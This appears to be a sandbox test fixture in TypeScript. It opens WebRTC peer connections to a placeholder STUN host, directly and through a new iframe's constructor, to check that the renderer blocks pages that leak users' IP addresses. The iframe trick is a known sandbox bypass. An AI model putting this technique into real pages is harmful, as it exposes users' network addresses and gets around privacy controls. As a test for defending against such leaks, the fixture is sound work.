// Opens a peer connection with a STUN server, as a page that leaks its address would, and in a
// frame it makes (whose window has constructors of its own): render must fail it. The tool says
// which ICE candidates Chromium gathered.
import { registerTool } from "@miniapp/sdk";

const candidates: string[] = [];
const open = (Ctor: typeof RTCPeerConnection) => {
  const pc = new Ctor({ iceServers: [{ urls: "stun:stun.leak.example:3478" }] });
  pc.onicecandidate = (e) => e.candidate && candidates.push(e.candidate.candidate);
  pc.createDataChannel("x");
  pc.createOffer().then((o) => pc.setLocalDescription(o)).catch(() => {});
};
open(RTCPeerConnection);
const frame = document.createElement("iframe");
document.body.append(frame);
open((frame.contentWindow as any).RTCPeerConnection);

registerTool({
  name: "candidates",
  description: "The ICE candidates gathered in 1.5 s.",
  execute: async () => {
    await new Promise((r) => setTimeout(r, 1500));
    return candidates.join("\n") || "none";
  },
});
